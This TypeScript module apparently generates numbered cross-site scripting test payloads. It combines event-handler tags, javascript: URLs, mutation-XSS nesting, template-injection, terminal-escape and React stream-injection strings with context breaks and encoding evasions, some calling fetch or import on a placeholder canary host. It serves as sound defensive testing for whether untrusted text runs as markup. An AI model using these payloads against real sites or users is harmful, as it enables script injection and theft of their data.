/** Address that nobody has: a request to it was made by a payload. */
export const CANARY_HOST = "canary.invalid";

type Encode = (text: string) => string;

const EVENTS: readonly (readonly [tag: string, event: string])[] = [
  ["img src=x", "onerror"],
  ["svg", "onload"],
  ["body", "onpageshow"],
  ["iframe", "onload"],
  ["video src=x", "onerror"],
  ["audio src=x", "onerror"],
  ["details open", "ontoggle"],
  ["input autofocus", "onfocus"],
  ["select autofocus", "onfocus"],
  ["textarea autofocus", "onfocus"],
  ["button autofocus", "onfocus"],
  ["marquee", "onstart"],
  ["style", "onload"],
  ["link rel=stylesheet href=x", "onerror"],
  ["script src=x", "onerror"],
  ["object data=x", "onerror"],
  ["embed src=x", "onload"],
  ["x-a tabindex=1 autofocus", "onfocusin"],
  ["svg><animate attributeName=x dur=1s", "onbegin"],
  ["p style=animation:x", "onanimationstart"],
];

/** Documents that act without an event. */
const ACTS: readonly Encode[] = [
  (code) => `<script>${code}</script>`,
  (code) => `<SCRIPT/x>${code}</SCRIPT>`,
  (code) => `<script src=//${CANARY_HOST}/${encodeURIComponent(code)}></script>`,
  (code) => `<iframe src="javascript:${code}"></iframe>`,
  (code) => `<iframe srcdoc="<script>${code}</script>"></iframe>`,
  (code) => `<a href="javascript:${code}">open</a>`,
  (code) => `<a href=" java\tscript:${code}">open</a>`,
  (code) => `<form action="javascript:${code}"><button>go</button></form>`,
  (code) => `<object data="data:text/html;base64,${btoa(`<script>${code}</script>`)}"></object>`,
  (code) => `<embed src="data:image/svg+xml,<svg onload=${code}>">`,
  (code) => `<meta http-equiv=refresh content="0;url=javascript:${code}">`,
  (code) => `<base href="//${CANARY_HOST}/"><!--${code}-->`,
  (code) => `<link rel=stylesheet href="//${CANARY_HOST}/${encodeURIComponent(code)}">`,
  (code) => `<style>@import "//${CANARY_HOST}/${encodeURIComponent(code)}";</style>`,
  (code) => `<img src="//${CANARY_HOST}/${encodeURIComponent(code)}">`,
  (code) => `<svg><use href="data:image/svg+xml,<svg id=x onload=${code}>#x"/></svg>`,
  (code) => `<math><mtext><table><mglyph><style><img src=x onerror=${code}>`,
  (code) => `<template><img src=x onerror=${code}></template>`,
  (code) => `<noscript><p title="</noscript><img src=x onerror=${code}>">`,
  (code) => `<svg><script>${code}</script></svg>`,
  (code) => `[open](javascript:${code})`,
  (code) => `![image](//${CANARY_HOST}/${encodeURIComponent(code)})`,
  (code) => `<javascript:${code}>`,
  (code) => `javascript:${code}`,
  (code) => `data:text/html,<script>${code}</script>`,
  (code) => `vbscript:${code}`,
  (code) => `{{constructor.constructor('${code}')()}}`,
  (code) => `\${${code}}`,
  (code) => `<%= ${code} %>#{${code}}`,
  (code) => `\u001b]8;;javascript:${code}\u0007open\u001b]8;;\u0007`,
  (code) => `\u001b[31m<img src=x onerror=${code}>\u001b[0m`,
  (code) => `\u001b]0;<script>${code}</script>\u0007`,
  (code) => `\u009b31m<svg onload=${code}>`,
  // What React's own stream to the browser is made of.
  (code) => `0:["$","script",null,{"dangerouslySetInnerHTML":{"__html":"${code}"}}]`,
  (code) => `$Sreact.fragment ${code}`,
  (code) => `$1:constructor:constructor ${code}`,
  (code) => `"]);self.__next_f.push([1,"${code}`,
  (code) => `{"$$typeof":"Symbol(react.element)","type":"script","props":{"children":"${code}"}}`,
  (code) => `/*${code}*/`,
  (code) => `';${code}//`,
];

/** What closes the place where the text may have come to stand. */
const BREAKS = [
  "",
  '">',
  "'>",
  "--><",
  "</script>",
  "</style>",
  "</title></textarea>",
  "]]>",
  "*/",
  '"});',
  "\u2028",
  "\u2029//\n",
  "\\",
  "\n\n",
  "` ",
  '" autofocus onfocus=',
  "&quot;>",
  "\u202e",
];

const ENCODINGS: readonly Encode[] = [
  (text) => text,
  (text) => text.replace(/[a-z]/g, (letter, at: number) => (at % 2 === 0 ? letter.toUpperCase() : letter)),
  (text) => text.replaceAll(" ", "/"),
  (text) => text.replaceAll(" ", "\t"),
  (text) => text.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (text) => text.replaceAll("<", "&#x3c;").replaceAll('"', "&#34;"),
  (text) => encodeURIComponent(text.toWellFormed()),
  (text) => encodeURIComponent(encodeURIComponent(text.toWellFormed())),
  (text) => text.replaceAll("<", "\\u003c").replaceAll(">", "\\u003e"),
  (text) => text.replaceAll("<", "\\x3c"),
  (text) => text.replaceAll("<", "＜").replaceAll(">", "＞"),
  (text) => text.replaceAll("<", "<\u00ad"),
  (text) => text.replaceAll("<", "<<"),
  (text) => `${text}${text}`,
];

/**
 * The payload of this number: markup that would run a script, call a host or add an element wherever it is taken for more
 * than text. Its number stands in it.
 */
export function markupPayload(number: number): string {
  const mark = markOf(number);
  const codes = [
    `__xss('${mark}')`,
    `alert('${mark}')`,
    `fetch('//${CANARY_HOST}/${mark}')`,
    `top.__xss?.(\`${mark}\`)`,
    `import('//${CANARY_HOST}/${mark}')`,
  ];
  const code = codes[number % codes.length] ?? "";
  const acts: readonly Encode[] = [
    ...EVENTS.map(
      ([tag, event]): Encode =>
        (inner) =>
          `<${tag} ${event}="${inner}">`,
    ),
    ...ACTS,
  ];
  // Numbers without a common divisor: every act meets every break and every encoding in the end.
  const act = acts[number % acts.length] ?? acts[0];
  const breaks = BREAKS[(number * 7) % BREAKS.length] ?? "";
  const encode = ENCODINGS[Math.floor(number / 3) % ENCODINGS.length] ?? ((text: string) => text);
  return encode(`${breaks}${act?.(code) ?? ""}`).concat(` ${mark}`);
}

/** As it stands in every form of the payload. */
export function markOf(number: number): string {
  return `x${String(number).padStart(5, "0")}x`;
}

/** As long as a payload of that number, and harmless. */
export function plainText(number: number): string {
  return `plain words ${markOf(number)}`;
}
